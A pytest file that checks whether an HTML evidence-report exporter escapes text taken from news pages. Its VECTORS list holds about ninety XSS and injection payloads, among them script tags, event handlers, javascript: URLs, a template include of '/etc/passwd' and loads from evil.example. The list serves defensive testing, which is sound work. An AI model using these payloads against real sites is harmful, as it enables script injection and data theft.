import base64
import hashlib
import io
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from sample import BRIDGE, MAYOR, REPORT, TEXT, WIRE

from khabar.export.evidence import write
from khabar.model.claims import ActorClass, Party, Rejected
from khabar.model.documents import Dropped, Related
from khabar.model.reports import Report
from khabar.model.values import Reading, Span

PLAIN_TAGS = (
    "html head meta title style body header footer main section article aside nav p h1 h2 h3 h4 a span "
    "bdi b strong code mark time ol ul li dl dt dd div details summary blockquote svg rect"
)
PLAIN_ATTRIBUTES = (
    "lang charset http-equiv content name id class href title datetime rel aria-label aria-labelledby "
    "aria-hidden viewbox preserveaspectratio width height data-of"
)
# Ways in which page text has become markup or script somewhere, after the public lists of such.
VECTORS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=javascript:alert('1')>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/1 1x'>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<div style=width:expression(alert(1))>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<x onclick=alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x",
    "https://[evil",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "<!--#exec cmd='ls'-->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",  # full-width brackets, as the lists have them
]


class Shape(HTMLParser):
    """What a page is made of: its tags, attributes, addresses and words."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.links, self.ids, self.words = [], set(), [], [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]
        self.ids += [value for name, value in attrs if name == "id"]

    def handle_data(self, data):
        self.words.append(data)


def render(*outcomes):
    stream = io.BytesIO()
    write(outcomes, stream)
    return stream.getvalue().decode("utf-8")


def poison(vector):
    """A report with `vector` in each field that comes from a page."""
    text = f"{vector}\n{vector}"
    reading = Reading.at(
        Span(0, len(vector)), text, Party(name=vector, actor_class=ActorClass.STATE), vector
    )
    source = replace(BRIDGE.sources[0], who=reading)
    place = replace(BRIDGE.place, span=reading.span, text=vector)
    place = replace(place, value=replace(place.value, name=vector, admin1=vector))
    claim = replace(
        BRIDGE,
        kind=vector,
        span=reading.span,
        actors=(replace(BRIDGE.actors[0], who=reading),),
        sources=(source,),
        place=place,
        when=replace(BRIDGE.when, span=reading.span, text=vector),
        figures=(
            replace(
                BRIDGE.figures[0],
                measure=vector,
                who=vector,
                count=replace(BRIDGE.figures[0].count, span=reading.span, text=vector),
            ),
        ),
    )
    article = replace(
        WIRE,
        title=vector,
        publisher=vector,
        agencies=(vector,),
        author=vector,
        url=vector,
        sha256=vector,
        text=text,
        headings=(),
        related=(Related(title=vector, published=None),),
        dropped=(Dropped(text=vector, reason=vector, at=0),),
    )
    return Report(article=article, claims=(claim,), rejected=(reject(vector),))


def reject(vector):
    return Rejected(source=vector, reason=vector, detail=vector)


@pytest.mark.parametrize("vector", VECTORS)
def test_page_text_never_becomes_markup(vector):
    shape = Shape(render(poison(vector), poison(vector), reject(vector)))
    assert set(shape.tags) <= set(PLAIN_TAGS.split())
    assert shape.attributes <= set(PLAIN_ATTRIBUTES.split())
    assert shape.tags.count("style") == 1
    assert shape.tags.count("meta") == 5
    assert all(link.startswith("#") for link in shape.links)


@pytest.mark.parametrize("vector", ["{{ 7 * 7 }}", "&lt;b&gt;", "<b>bold</b>"])
def test_page_text_is_shown_as_it_is(vector):
    assert vector in "".join(Shape(render(poison(vector))).words)


def test_no_script_and_no_request_is_allowed():
    page = render(REPORT)
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page)[1]
    style = re.search(r"<style>(.*)</style>", page, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy.startswith(f"default-src 'none'; style-src 'sha256-{digest}';")
    assert "script-src" not in policy
    assert "unsafe" not in policy
    assert "url(" not in page


def test_a_link_leaves_the_page_only_for_the_web_address_of_the_article():
    outside = [link for link in Shape(render(REPORT)).links if not link.startswith("#")]
    assert outside == [WIRE.url]


def test_each_link_inside_the_page_leads_to_one_place():
    shape = Shape(render(REPORT, REPORT, Rejected(source="a", reason="b", detail="c")))
    assert len(shape.ids) == len(set(shape.ids))
    assert {link[1:] for link in shape.links if link.startswith("#")} <= set(shape.ids)


def test_each_figure_and_source_opens_on_its_words():
    page = render(REPORT)
    count, source = BRIDGE.figures[0].count, BRIDGE.sources[0].who
    for reading in (count, source):
        assert f'href="#t1-{reading.span.start}-{reading.span.end}"' in page
        assert f'id="t1-{reading.span.start}-{reading.span.end}">{reading.text}</span>' in page
        assert f"<mark>{reading.text}</mark>" in page


def test_the_text_is_whole_and_in_order():
    words = "".join(Shape(render(Report(article=WIRE, claims=()))).words)
    for line in TEXT.split("\n"):
        assert line in words


def test_what_was_left_out_stands_in_place_with_its_reason():
    page = render(REPORT)
    order = [
        "Home World Sport",
        "At least",
        "Share this story",
        "What the sides say",
        "All rights reserved",
    ]
    article = page[page.index("<article>") :]
    assert [article.index(words) for words in order] == sorted(article.index(words) for words in order)
    assert "share buttons" in page


def test_every_dropped_part_is_shown_once_wherever_it_stood():
    marked = tuple(Dropped(text=f"drop-{at}-", reason="menu", at=at) for at in range(len(TEXT) + 1))
    page = render(Report(article=replace(WIRE, dropped=marked), claims=(BRIDGE, MAYOR)))
    assert all(page.count(f"drop-{at}-") == 1 for at in range(len(TEXT) + 1))


def test_a_part_names_the_claim_that_contains_it():
    assert 'part of <a href="#c1-1">claim 1</a>' in render(REPORT)


def test_a_sub_heading_is_a_heading():
    assert '<h3 class="heading">What the sides say</h3>' in render(REPORT)


def test_the_books_are_on_the_page_and_a_loss_is_not_hidden():
    assert "9 left out" in render(REPORT)
    lossy = replace(REPORT, article=replace(WIRE, words_in=WIRE.words_in + 5))
    assert "5 unaccounted for" in render(lossy)


def test_what_was_not_read_is_listed():
    page = render(Rejected(source="x.bin", reason="not_text", detail="got a picture"))
    assert "x.bin" in page
    assert "got a picture" in page


def test_a_page_without_anything_is_still_a_page():
    assert "0 claims in 0 reports" in render()
    empty = replace(WIRE, title=None, text="", url=None, publisher=None, published=None, headings=())
    assert "A report without a title" in render(Report(article=empty, claims=()))
